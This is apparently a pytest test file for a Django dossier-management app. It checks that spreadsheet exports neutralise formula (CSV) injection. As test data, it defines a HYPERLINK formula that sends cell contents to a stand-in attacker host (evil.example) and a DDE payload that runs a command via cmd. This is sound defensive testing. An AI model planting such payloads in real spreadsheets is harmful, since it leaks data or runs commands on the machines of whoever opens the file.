"""Issue 13 gap 3: no spreadsheet motcua writes carries a live formula (OWASP CSV injection)."""

from __future__ import annotations

import io
import subprocess
import sys
from dataclasses import replace
from datetime import date, datetime

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import Workbook, load_workbook

from motcua.audit.models import AuditEvent
from motcua.core.spreadsheet import neutralise, unneutralise, workbook_bytes
from motcua.dossiers.services import Applicant, DocumentLine, dossier_receive
from motcua.worktime import TZ

APPLICANT = Applicant(name="Nguyễn Thị Ánh Tuyết", id_number="046195000123", phone="0905123456")


def receive(personas, procedure, applicant):
    return dossier_receive(
        actor=personas["clerk"],
        procedure=procedure,
        applicant=applicant,
        documents=[DocumentLine("Tờ khai", "original")],
        received_at=datetime(2025, 3, 10, 8, tzinfo=TZ),
    )


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1, "Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value", [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
)
def test_every_trigger_is_quoted_and_round_trips(value):
    assert neutralise(value) == "'" + value
    assert unneutralise(neutralise(value)) == value


@pytest.mark.parametrize("value", [42, -7, 3.5, date(2025, 3, 1), None, True, "Nguyễn Văn A", "'x"])
def test_other_values_are_untouched(value):
    assert neutralise(value) == value


def test_workbook_bytes_never_writes_a_formula_and_keeps_numbers():
    book = Workbook()
    sheet = book.active
    sheet.append([HYPERLINK, -5, 12.5, "ok"])
    sheet["A2"] = DDE  # openpyxl would store this as a formula
    assert sheet["A2"].data_type == "f"
    ws = load_workbook(io.BytesIO(workbook_bytes(book))).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert ws["A1"].value == "'" + HYPERLINK and ws["A2"].value == "'" + DDE
    assert ws["B1"].value == -5 and ws["B1"].data_type == "n" and ws["C1"].value == 12.5


def _register_cells(content: bytes):
    ws = load_workbook(io.BytesIO(content)).active
    return [c for row in ws.iter_rows(min_row=7) for c in row if c.value is not None]


@pytest.mark.django_db
@pytest.mark.parametrize("name", [HYPERLINK, DDE])
def test_register_download_neutralises_a_citizen_name(personas, procedure, name):
    receive(personas, procedure, applicant=replace(APPLICANT, name=name))
    client = Client()
    client.force_login(personas["clerk"])
    response = client.get("/ho-so/so-theo-doi.xlsx", {"from": "2025-03-01", "to": "2025-03-31"})
    assert response.status_code == 200
    cells = _register_cells(response.content)
    assert all(c.data_type != "f" for c in cells)
    assert "'" + name in [c.value for c in cells]
    assert isinstance(cells[0].value, int)  # the register number stays a number


@pytest.mark.django_db
def test_register_command_writes_the_units_register(personas, procedure, tmp_path):
    receive(personas, procedure, applicant=replace(APPLICANT, name=DDE))
    target = tmp_path / "so.xlsx"
    call_command(
        "dossiers", "register", "--unit", "000.00.12.H57", "--from", "2025-03-01",
        "--to", "2025-03-31", "-o", str(target),
    )  # fmt: skip
    cells = _register_cells(target.read_bytes())
    assert "'" + DDE in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)
    assert [p.name for p in tmp_path.iterdir()] == ["so.xlsx"]
    event = AuditEvent.objects.get(action="dossier.register_export")
    assert event.data["via"] == "cli" and event.data["rows"] == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--unit", "NO-SUCH", "--from", "2025-03-01", "--to", "2025-03-31"], "không có đơn vị"),
        (["--unit", "000.00.12.H57", "--from", "2025-13-01", "--to", "2025-03-31"], "YYYY-MM-DD"),
        (["--unit", "000.00.12.H57", "--from", "2025-03-31", "--to", "2025-03-01"], ""),
    ],
)
def test_register_command_bad_input_exits_2_with_one_line(units, tmp_path, capsys, args, message):
    target = tmp_path / "so.xlsx"
    with pytest.raises(SystemExit) as exc:
        call_command("dossiers", "register", *args, "-o", str(target))
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith("lỗi: ") and err.count("\n") == 1 and message in err
    assert not target.exists()
    assert not AuditEvent.objects.filter(action="dossier.register_export").exists()


def test_register_command_missing_argument_is_one_line_exit_2():
    result = subprocess.run(  # noqa: S603 - our own console entry point
        [sys.executable, "-m", "motcua", "dossiers", "register", "--unit", "X"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.startswith("lỗi: ") and result.stderr.count("\n") == 1


@pytest.mark.django_db
def test_reform_results_and_ii06a_exports_are_neutralised():
    from motcua.reform.excel import results_to_xlsx

    ws = load_workbook(io.BytesIO(results_to_xlsx(DDE, ["=a", "b"], [[HYPERLINK, 3]]))).active
    assert [c.value for c in ws[3]] == ["'" + HYPERLINK, 3]
    assert ws["A1"].value == "'" + DDE
